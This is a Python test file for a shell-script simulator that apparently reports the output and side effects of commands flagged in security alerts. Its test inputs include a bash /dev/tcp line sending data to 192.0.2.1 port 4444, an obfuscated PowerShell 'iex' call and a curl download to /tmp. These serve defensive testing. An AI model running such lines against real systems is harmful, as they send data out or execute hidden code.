"""hinomi alerts imitate: what a script would do, for people and for programs."""
import json

from tap import main, run


def imitate(script, *arguments):
    done = run("alerts", "imitate", script, "--json", *arguments)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def output_is_exact_where_it_can_be(_folder):
    result = imitate("echo $((510*40))|rev")
    assert result["output"] == "00402\n" and result["pattern"] == "00402"
    assert result["status"] == 0 and result["commands_run"] == 2


def holes_have_names(_folder):
    result = imitate("id")
    assert result["output"].startswith("uid=<number>(<word>)")
    assert result["user_matters"] and result["bits"] > 40
    assert imitate("id", "--root")["output"].startswith("uid=0(root)")


def effects_are_told(_folder):
    result = imitate("bash -c 'echo hi >/dev/tcp/192.0.2.1/4444'; sleep 3")
    effect, = result["effects"]
    assert (effect["kind"], effect["host"], effect["port"]) == ("connect", "192.0.2.1", 4444)
    assert effect["data"] == "hi\n" and result["seconds"] == 3


def profiles_differ(_folder):
    assert imitate("nosuch", "--profile", "bash")["errors"] == "<shell>nosuch: command not found\n"
    assert imitate("nosuch", "--profile", "busybox")["errors"] == "<shell>nosuch: not found\n"
    assert "is not recognized" in imitate("nosuch", "--profile", "cmd")["errors"]
    assert imitate("iex ('ec'+'ho hi')", "--profile", "powershell")["output"] == "hi\n"


def table_and_usage(_folder):
    table = run("alerts", "imitate", "curl http://a.example/x -o /tmp/y").stdout.decode()
    assert "request a.example:80 /x" in table and "write  /tmp/y" in table
    assert run("alerts", "imitate").returncode == 2
    assert run("alerts", "imitate", "id", "--profile", "vms").returncode == 2


if __name__ == "__main__":
    main([output_is_exact_where_it_can_be, holes_have_names, effects_are_told,
          profiles_differ, table_and_usage])
